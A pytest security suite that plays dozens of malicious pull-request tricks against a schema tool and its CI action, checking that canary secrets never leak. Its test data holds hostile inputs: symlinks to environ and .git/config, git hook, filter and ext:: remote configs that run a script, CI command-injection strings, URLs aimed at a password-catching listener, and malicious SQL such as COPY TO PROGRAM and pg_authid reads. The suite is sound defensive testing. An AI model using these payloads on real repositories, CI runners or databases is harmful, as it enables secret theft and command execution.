"""A stranger's pull request, beside credentials: every trick that we know of, one a test.

Each trick is a repository: what its base branch and its pull request hold. All that a CI runs
is run on it, with secrets in the environment, in files outside and in `.git/config`. None of
them may turn up: not on stdout or stderr, not in a file that was written, not at a server that
the repository names. Nothing outside may change, no witness may appear, nothing may hang.
"""

import json
import os
import socket
import subprocess
import threading

import pytest
from conftest import ROOT, fresh_database
from github import commands_of

SECRET = "canary7f3a9c"  # part of each secret, and of nothing else
SECRETS = {
    "AWS_ACCESS_KEY_ID": "AKIANAMED",  # is no secret: the target is shown with it
    "AWS_SECRET_ACCESS_KEY": f"{SECRET}/aws/secret/access/key/0123456",
    "AWS_SESSION_TOKEN": f"{SECRET}-token",
    "PGPASSWORD": f"{SECRET}-postgres",
    "GITHUB_TOKEN": f"ghp_{SECRET}",
    "DEPLOY_KEY": f"{SECRET}-deploy",
}
TABLE = """table_name: messages
attribute_definitions: { pk: S }
key_schema: { hash: pk }
billing_mode: PAY_PER_REQUEST
"""
READS = TABLE + """handles: %s
entities:
  e: { for_each: participant, attributes: { pk: "${conversation.uuid}#${participant.handle}", u: "${participant.uuid}" } }
fixtures: [ ../talk.txt ]
"""
TALK = """---
conversation: a
participants: { A: ann }
starts_at: 2023-03-19T12:00:00Z
---
A: Hello
"""
SSL_REQUEST = b"\0\0\0\x08\x04\xd2\x16\x2f"
REFUSAL = b'{"__type":"com.amazon.coral.validate#ValidationException","message":"no"}'


class Listener:
    """Keeps all that it is sent. To HTTP it says no; of a Postgres client it wants the password."""

    def __init__(self):
        self.received = b""
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            threading.Thread(target=self.talk, args=(connection,), daemon=True).start()

    def talk(self, connection):
        connection.settimeout(3)
        with connection:
            try:
                while data := connection.recv(65536):
                    self.received += data
                    if data.startswith(SSL_REQUEST):
                        connection.sendall(b"N")
                    elif data[4:8] == b"\0\x03\0\0":
                        connection.sendall(b"R\0\0\0\x08\0\0\0\x03")
                    elif data.startswith(b"POST"):
                        head = b"HTTP/1.1 400 Bad Request\r\nContent-Length: %d\r\n"
                        head += b"Content-Type: application/x-amz-json-1.0\r\nConnection: close\r\n\r\n"
                        connection.sendall(head % len(REFUSAL) + REFUSAL)
                        return
                    elif data.startswith(b"p"):
                        return
            except OSError:
                return


class Repository:
    def __init__(self, place, port):
        self.outside = place / "outside"
        self.root = place / "outside/repository"
        self.root.mkdir(parents=True)
        self.port = port
        self.files = ["schemas/m.yaml"]
        self.path = "/usr/bin:/bin"
        self.options = []
        self.witness = self.outside / "witness"
        (self.outside / "secret.yaml").write_text(f"note: {SECRET}-file\n  [bad\n")
        (self.outside / "secret.txt").write_text(f"machine a login b password {SECRET}-text\n")
        (self.outside / f"{SECRET}-name.txt").write_text("x\n")
        self.git("init", "--quiet", "--initial-branch=main")
        self.git("config", "user.name", "t")
        self.git("config", "user.email", "t@example.com")
        self.git("config", "http.extraheader", f"AUTHORIZATION: basic {SECRET}-git")
        self.write("ddbgen.yaml", "targets: {}\n")
        self.write("talk.txt", TALK)
        self.write("schemas/m.yaml", TABLE)

    def git(self, *arguments, stdin=None):
        environment = {"PATH": "/usr/bin:/bin", "HOME": "/nowhere", "GIT_CONFIG_GLOBAL": "/dev/null"}
        done = subprocess.run(["git", *arguments], cwd=self.root, env=environment, input=stdin,
                              capture_output=True, check=True)
        return done.stdout.decode().strip()

    def write(self, name, text, mode=0o644):
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.write_text(text)
        path.chmod(mode)

    def link(self, name, target):
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    def commit(self):
        self.git("add", "--all")
        self.git("commit", "--quiet", "--allow-empty", "--message", "a commit")

    def script(self, name="evil"):
        """A program that leaves a witness with what it sees."""
        self.write(name, f"#!/bin/sh\nenv > '{self.witness}'\nexit 0\n", 0o755)
        return self.root / name

    def table(self, more):
        self.write("schemas/m.yaml", TABLE + more)

    def binary(self, path):
        self.write("data.yaml", f"items:\n  - {{ pk: a, b: !B {{ file: {path} }} }}\n")
        self.table("fixtures: [ ../data.yaml ]\n")

    def target(self, text):
        self.write("ddbgen.yaml", f"default_target: t\ntargets: {{ t: {{ {text} }} }}\n")


TRICKS = {}


def trick(function):
    TRICKS[function.__name__.replace("_", "-")] = function
    return function


def tricks(**rows):
    """Tricks that differ in a word: name=(method, arguments)."""
    for name, (method, *arguments) in rows.items():
        def play(repository, method=method, arguments=arguments):
            getattr(repository, method)(*(a.format(r=repository) for a in arguments))

        TRICKS[name.replace("_", "-")] = play


# --- links, and names that lead out ------------------------------------------------------

tricks(
    definition_link=("link", "schemas/m.yaml", "../../secret.yaml"),
    definition_link_absolute=("link", "schemas/m.yaml", "{r.outside}/secret.yaml"),
    definition_link_to_environment=("link", "schemas/m.yaml", "/proc/self/environ"),
    definition_link_to_parent_environment=("link", "schemas/m.yaml", "/proc/thread-self/environ"),
    definition_link_to_zero=("link", "schemas/m.yaml", "/dev/zero"),
    definition_link_to_tty=("link", "schemas/m.yaml", "/dev/stdin"),
    definition_link_to_git=("link", "schemas/m.yaml", "../.git/config"),
    definition_link_to_itself=("link", "schemas/m.yaml", "m.yaml"),
    project_file_link=("link", "ddbgen.yaml", "../secret.yaml"),
    project_file_link_to_git=("link", "ddbgen.yaml", ".git/config"),
    lock_link=("link", "schemas/ddbgen.lock", "../../secret.yaml"),
    lock_link_to_nothing=("link", "schemas/ddbgen.lock", "../../witness"),
    output_link=("link", "out", "../"),
    output_link_to_git=("link", "out", ".git/hooks"),
    output_link_to_nothing=("link", "out", "../witness"),
    binary_outside=("binary", "../secret.txt"),
    binary_absolute=("binary", "{r.outside}/secret.txt"),
    binary_environment=("binary", "/proc/self/environ"),
    binary_git_config=("binary", ".git/config"),
    binary_git_config_in_capitals=("binary", ".GIT/config"),
    binary_git_config_by_a_detour=("binary", "schemas/../.git/../.git/config"),
    fixture_outside=("table", "fixtures: [ ../../secret.txt ]\n"),
    fixture_pattern_outside=("table", "fixtures: [ '../../*.txt' ]\n"),
    fixture_pattern_far_outside=("table", "fixtures: [ '../../../../../../../../*/*' ]\n"),
    fixture_absolute=("table", "fixtures: [ '{r.outside}/*.txt' ]\n"),
    fixture_in_git=("table", "fixtures: [ '../.g*/*' ]\n"),
    fixture_by_the_environment=("table", "fixtures: [ '${{env.DEPLOY_KEY}}.txt' ]\n"),
    fixture_pattern_without_end=("table", "fixtures: [ '" + "*a" * 400 + "b' ]\n"),
    handles_outside=("table", "handles: {{ file: ../../secret.yaml }}\n"),
    handles_of_git=("table", "handles: {{ file: ../.git/config }}\n"),
    handles_absolute=("table", "handles: {{ file: '{r.outside}/secret.yaml' }}\n"),
    table_name_of_the_environment=("write", "schemas/m.yaml",
                                   TABLE.replace("{", "{{").replace("}", "}}").replace(
                                       "messages", "'${{env.DEPLOY_KEY}}'")),
)


@trick
def definition_link_chain(r):
    r.link("schemas/m.yaml", "n.yaml")
    r.link("schemas/n.yaml", "../k.yaml")
    r.link("k.yaml", "../secret.yaml")


@trick
def folder_link(r):
    r.write("schemas/x", "")
    r.link("more", "..")
    r.files = ["more/secret.yaml", "more/secret.txt"]


@trick
def transcript_link(r):
    r.link("t.txt", "../secret.txt")
    r.files = ["schemas/m.yaml", "t.txt"]


@trick
def fixture_link(r):
    r.link("t.txt", "../secret.txt")
    r.table("fixtures: [ ../t.txt ]\n")


@trick
def fixture_pattern_through_a_link(r):
    r.link("more", "..")
    r.table("fixtures: [ '../more/*.txt', '../m*/*.txt' ]\n")


@trick
def fixture_is_a_pipe(r):
    os.mkfifo(r.root / "t.txt")
    r.table("fixtures: [ ../t.txt ]\n")


@trick
def definition_is_a_pipe(r):
    (r.root / "schemas/m.yaml").unlink()
    os.mkfifo(r.root / "schemas/m.yaml")


@trick
def project_file_is_a_pipe(r):
    (r.root / "ddbgen.yaml").unlink()
    os.mkfifo(r.root / "ddbgen.yaml")


@trick
def binary_through_links_into_git(r):
    r.link("a", "b")
    r.link("b", ".git")
    r.binary("a/config")


@trick
def binary_of_a_submodule(r):
    (r.root / "sub").mkdir()
    (r.root / "sub/.git").write_text(f"gitdir: {SECRET}\n")
    r.binary("sub/.git")


@trick
def handles_link(r):
    r.link("users.yaml", "../secret.yaml")
    r.write("schemas/m.yaml", READS % "{ file: ../users.yaml }")


# --- git ---------------------------------------------------------------------------------


@trick
def base_definition_link(r):
    r.link("schemas/m.yaml", "../../secret.yaml")
    r.commit()
    r.write("schemas/m.yaml", TABLE)


@trick
def base_folder_link(r):
    r.git("rm", "-rq", "--cached", "schemas")
    (r.root / "schemas/m.yaml").unlink()
    (r.root / "schemas").rmdir()
    r.link("schemas", "..")
    r.commit()
    (r.root / "schemas").unlink()
    r.write("schemas/m.yaml", TABLE)
    r.write("schemas/ddbgen.lock", "version: 1\n")


@trick
def base_lock_link(r):
    r.link("schemas/ddbgen.lock", "../../witness")
    r.commit()
    (r.root / "schemas/ddbgen.lock").unlink()
    r.write("schemas/ddbgen.lock", "version: 1\n")


@trick
def hooks(r):
    evil = r.script("hooks/post-checkout")
    for name in ("post-index-change", "reference-transaction", "fsmonitor-watchman", "pre-auto-gc"):
        r.write(f"hooks/{name}", evil.read_text(), 0o755)
    r.commit()
    r.git("config", "core.hooksPath", "hooks")


@trick
def fsmonitor(r):
    r.git("config", "core.fsmonitor", str(r.script()))


@trick
def filters(r):
    evil = r.script()
    r.write(".gitattributes", "* filter=evil diff=evil\n")
    r.commit()
    for key in ("filter.evil.smudge", "filter.evil.process", "filter.evil.clean",
                "diff.evil.textconv", "diff.evil.command", "diff.external", "core.pager",
                "core.sshCommand", "core.gitProxy", "core.alternateRefsCommand",
                "core.editor", "credential.helper", "uploadpack.packObjectsHook"):
        r.git("config", key, str(evil))


@trick
def aliases(r):
    evil = r.script()
    for name in ("rev-parse", "cat-file", "ls-tree", "config"):
        r.git("config", f"alias.{name}", f"!{evil}")


@trick
def objects_from_elsewhere(r):
    """A partial clone that fetches what is missing by a command."""
    evil = r.script()
    r.commit()
    blob = r.git("rev-parse", "HEAD:talk.txt")
    (r.root / ".git/objects" / blob[:2] / blob[2:]).unlink()
    r.git("config", "remote.origin.url", f"ext::{evil}")
    r.git("config", "remote.origin.promisor", "true")
    r.git("config", "extensions.partialClone", "origin")
    r.git("config", "protocol.ext.allow", "always")
    r.git("config", "protocol.allow", "always")


@trick
def another_git_in_the_path(r):
    r.script("git")
    r.script("bin/git")
    r.path = f"{r.root}/bin:.:bin::/usr/bin:/bin"


@trick
def include_of_git(r):
    r.git("config", "include.path", str(r.outside / "secret.yaml"))


def plant(r, entries):
    """A commit whose tree holds what git itself would not."""
    blob = r.git("hash-object", "-w", "--stdin", stdin=b"evil\n")
    raw = b"".join(
        mode + b" " + name + b"\0" + bytes.fromhex(id_ or blob) for mode, name, id_ in entries
    )
    tree = r.git("hash-object", "-w", "-t", "tree", "--literally", "--stdin", stdin=raw)
    commit = r.git("commit-tree", tree, "-m", "x", stdin=b"")
    r.git("update-ref", "refs/heads/main", commit)
    return tree


def tree_of(r, name):
    blob = r.git("hash-object", "-w", "--stdin", stdin=b"evil\n")
    raw = b"100644 " + name + b"\0" + bytes.fromhex(blob)
    return r.git("hash-object", "-w", "-t", "tree", "--literally", "--stdin", stdin=raw)


@trick
def tree_that_climbs(r):
    inner = tree_of(r, b"witness")
    for _ in range(8):
        raw = b"40000 ..\0" + bytes.fromhex(inner)
        inner = r.git("hash-object", "-w", "-t", "tree", "--literally", "--stdin", stdin=raw)
    plant(r, [(b"40000", b"..", inner)])


@trick
def tree_with_a_slash(r):
    plant(r, [(b"100644", str(r.witness).encode(), None)])


@trick
def tree_with_git_in_it(r):
    plant(r, [(b"40000", b".GIT", tree_of(r, b"config"))])


@trick
def tree_with_a_link_and_a_folder_of_one_name(r):
    target = r.git("hash-object", "-w", "--stdin", stdin=str(r.outside).encode())
    plant(r, [(b"120000", b"a", target), (b"40000", b"a", tree_of(r, b"witness"))])


@trick
def tree_that_grows(r):
    """Ten times itself, ten levels deep."""
    inner = tree_of(r, b"x")
    for _ in range(10):
        raw = b"".join(b"40000 %d\0" % i + bytes.fromhex(inner) for i in range(10))
        inner = r.git("hash-object", "-w", "-t", "tree", "--literally", "--stdin", stdin=raw)
    r.git("update-ref", "refs/heads/main", r.git("commit-tree", inner, "-m", "x", stdin=b""))


@trick
def replaced_commit(r):
    r.link("schemas/m.yaml", "../../secret.yaml")
    r.commit()
    r.git("replace", r.git("rev-parse", "HEAD"), r.git("rev-parse", "HEAD~1"))
    r.write("schemas/m.yaml", TABLE)


# --- where secrets go ------------------------------------------------------------------------

SOURCE = "{ postgres: { url: 'postgresql://u@127.0.0.1:%d/db%s' } }"


def postgres(more):
    def play(r):
        r.write("schemas/m.yaml", READS % (SOURCE % (r.port, more.format(r=r))))

    return play


TRICKS["url-that-wants-the-password"] = postgres("")
TRICKS["url-with-a-password-file"] = postgres("?passfile={r.outside}/secret.txt")
TRICKS["url-with-a-service"] = postgres("?service=x&servicefile={r.outside}/secret.txt")
TRICKS["url-with-a-key-file"] = postgres("?sslmode=require&sslkey={r.outside}/secret.txt")
TRICKS["url-of-the-project-file"] = lambda r: (
    r.target("handles: { postgres: { url: 'postgresql://u@127.0.0.1:%d/db' } }" % r.port),
    r.write("schemas/m.yaml", READS % "{ postgres: {} }"),
)
for field in ("region", "profile", "account_id", "endpoint_url"):
    for name in ("AWS_SECRET_ACCESS_KEY", "DEPLOY_KEY"):
        TRICKS[f"{field}-of-{name}".replace("_", "-")] = (
            lambda r, field=field, name=name: r.target(f'{field}: "${{env.{name}}}"')
        )
TRICKS["endpoint-of-a-stranger"] = lambda r: r.target(f"endpoint_url: 'http://127.0.0.1:{r.port}'")
TRICKS["environment-in-an-item"] = lambda r: r.table(
    'entities: { e: { for_each: message, attributes: { pk: "${env.DEPLOY_KEY}" } } }\n'
    "fixtures: [ ../talk.txt ]\n"
)


# --- words that a CI takes for commands -----------------------------------------------------

for number, words in enumerate((
    "##[error]pwned", "##vso[task.setvariable variable=x]pwned", "::error::pwned",
    "  ::add-path::/pwned", "##[ADD-MASK]pwned", "a\r::set-env name=x::pwned",
)):
    quoted = json.dumps(words)
    TRICKS[f"command-of-a-ci-{number}-in-a-key"] = lambda r, q=quoted: r.table(f"{q}: 1\n")
    TRICKS[f"command-of-a-ci-{number}-in-items"] = lambda r, q=quoted: (
        r.write("data.yaml", f"items:\n  - {{ pk: {q}, {q}: {q} }}\n"),
        r.table(f"fixtures: [ ../data.yaml ]\ntags: {{ a: {q} }}\n"),
    )


# --- the test ----------------------------------------------------------------------------------

COMMANDS = {
    "check": ["check"],
    "build": ["build", "-o", "out"],
    "build --update-lock": ["build", "--update-lock"],
    "diff --against": ["diff", "--against", "git:main"],
    "diff": ["diff"],
    "apply": ["apply"],
}


# All tricks are played to the action, too.
LONG = "DDBGEN_TEST_LONG" in os.environ


def play_the_action(ddbgen, repository, environment, place):
    """What the action `diff` prints and reports, without GitHub's own variables."""
    for name in ("output", "summary", "runner"):
        (place / name).mkdir(parents=True, exist_ok=True)
    files = {"GITHUB_OUTPUT": place / "output/file", "GITHUB_STEP_SUMMARY": place / "summary/file"}
    done = subprocess.run(
        ["/bin/bash", ROOT / ".github/actions/diff/run"], cwd=repository.root, timeout=60,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        env={**environment, **files, "HOME": str(place), "RUNNER_TEMP": str(place / "runner"),
             "INPUT_FILES": "\n".join(repository.files), "INPUT_AGAINST": "git:main",
             "INPUT_TARGET": "", "INPUT_HANDLES": "", "INPUT_OPTIONS": "",
             "INPUT_FORMAT": "markdown", "INPUT_DDBGEN": str(ddbgen)},
    )
    assert done.returncode in (0, 2, 3), done.stdout
    written = [path.read_bytes() for path in place.rglob("*") if path.is_file()]
    assert all(line.startswith((b"exit-code=", b"differs=", b"report="))
               for line in files["GITHUB_OUTPUT"].read_bytes().splitlines())
    names = [name for name, _ in commands_of(done.stdout.decode(errors="replace"))]
    assert names == ["stop-commands"], done.stdout
    return done.stdout + b"".join(written)


def files_of(folder):
    return {
        path: None if path.is_symlink() or not path.is_file() else path.read_bytes()
        for path in folder.rglob("*")
    }


def without_secret(what, data):
    assert SECRET.encode() not in data, f"{what} has a secret:\n{data.decode(errors='replace')}"


@pytest.fixture
def listener():
    listener = Listener()
    yield listener
    listener.socket.close()


@pytest.mark.parametrize("name", sorted(TRICKS))
def test_trick(name, run, ddbgen, tmp_path, listener):
    repository = Repository(tmp_path, listener.port)
    repository.commit()
    TRICKS[name](repository)
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    before = files_of(repository.outside)
    environment = {
        **SECRETS,
        "PATH": repository.path,
        "TMPDIR": str(temporary),
        "AWS_ENDPOINT_URL": f"http://127.0.0.1:{listener.port}",
    }
    if "endpoint" in name:
        del environment["AWS_ENDPOINT_URL"]
    for command, words in COMMANDS.items():
        result = run(*words, *repository.files, env=environment, cwd=repository.root,
                     expect=None, timeout=60)
        assert result.code in (0, 1, 2, 3, 4), f"{command}: exit {result.code}\n{result.errors}"
        without_secret(command, result.out)
        without_secret(command, result.err)
        assert commands_of(result.text) + commands_of(result.errors) == [], command
        assert list(temporary.iterdir()) == [], command
    if LONG or name.startswith("command-of"):  # what speaks to a CI at least
        without_secret("the action", play_the_action(ddbgen, repository, environment,
                                                     tmp_path / "action"))
    after = files_of(repository.outside)
    assert not repository.witness.exists()
    for path, content in after.items():
        if before.get(path) != content:
            assert repository.root in path.parents, f"{path} was written"
            assert ".git" not in path.relative_to(repository.root).parts, f"{path} was written"
            without_secret(path, content or b"")
    assert set(before) - set(after) == set()
    without_secret("the server", listener.received)


# --- with a Postgres that answers -------------------------------------------------------------

ROWS = "SELECT handle, uuid, display_name FROM public.users WHERE handle = ANY($1::text[])"
QUERIES = {
    "program": "COPY (SELECT 1 /* $1 */) TO PROGRAM 'id > WITNESS'",
    "file": "COPY (SELECT 1 /* $1 */) TO 'WITNESS'",
    "two-statements": f"{ROWS}; DROP TABLE public.users",
    "commit": "COMMIT /* $1 */",
    "write": "INSERT INTO public.users SELECT 'x', gen_random_uuid(), $1::text RETURNING *",
    "read-a-file": "SELECT pg_read_file('SECRETS') AS handle, $1::text AS uuid",
    "list-a-folder": "SELECT pg_ls_dir('/') AS handle, $1::text AS uuid",
    "passwords": "SELECT rolname AS handle, rolpassword AS uuid FROM pg_authid WHERE '' <> $1::text",
    "without-end": "SELECT i::text AS handle, $1::text AS uuid FROM generate_series(1, 1e12) AS i",
    "asleep": f"{ROWS} AND pg_sleep(3600) IS NOT NULL",
    "a-gigabyte": "SELECT repeat('x', 900000000) AS handle, $1::text AS uuid",
    "an-error-that-quotes": "SELECT current_setting('nothing.' || $1::text) AS handle",
    "settings": "SELECT set_config('session_authorization', 'postgres', false) AS handle, $1::text",
}


@pytest.fixture(scope="module")
def canary(postgres):
    """A role whose password would be seen."""
    postgres.psql("postgres", f"CREATE ROLE canary LOGIN PASSWORD '{SECRET}-login'")
    return postgres


@pytest.mark.parametrize("name", sorted(QUERIES))
def test_query(name, run, canary, tmp_path, listener):
    """A pull request's query, asked as the role that the README has for it."""
    database = fresh_database(canary, "malicious_" + name.replace("-", "_"))
    database.psql("GRANT SELECT ON public.users TO canary")
    repository = Repository(tmp_path, listener.port)
    tmp_path.chmod(0o755)
    witness = tmp_path / "of-the-server"
    witness.mkdir()
    witness.chmod(0o777)
    query = QUERIES[name].replace("WITNESS", f"{witness}/witness")
    query = query.replace("SECRETS", f"{repository.outside}/secret.txt")
    repository.commit()
    source = "{ postgres: { url: '${env.CONNECTION_URL}', query: %s } }" % json.dumps(query)
    repository.write("schemas/m.yaml", READS % source)
    url = f"postgresql://canary:{SECRET}-login@{canary.host}:{canary.port}/{database.name}"
    environment = {**SECRETS, "CONNECTION_URL": url, "PATH": "/usr/bin:/bin",
                   "AWS_ENDPOINT_URL": f"http://127.0.0.1:{listener.port}"}
    before = database.psql("SELECT * FROM public.users ORDER BY handle")
    for command in ("build --update-lock", "diff"):
        words = COMMANDS[command]
        result = run(*words, *repository.files, env=environment, cwd=repository.root,
                     expect=None, timeout=60)
        assert result.code in (2, 3), f"{command}: exit {result.code}\n{result.errors}"
        without_secret(command, result.out + result.err)
        assert not (repository.root / "schemas/ddbgen.lock").exists()
    assert list(witness.iterdir()) == [] and not repository.witness.exists()
    assert database.psql("SELECT * FROM public.users ORDER BY handle") == before
    without_secret("the server", listener.received)


def test_the_secrets_would_be_seen(run, tmp_path, listener):
    """The same search finds them where a user asks for it."""
    repository = Repository(tmp_path, listener.port)
    repository.commit()
    repository.link("schemas/m.yaml", "../../secret.yaml")
    shown = run("check", "schemas/m.yaml", "--follow-links", cwd=repository.root, expect=2)
    assert SECRET in shown.errors


def test_count(capsys):
    with capsys.disabled():
        print(f"\n{len(TRICKS)} tricks, {len(COMMANDS)} commands each")
    assert len(TRICKS) >= 60
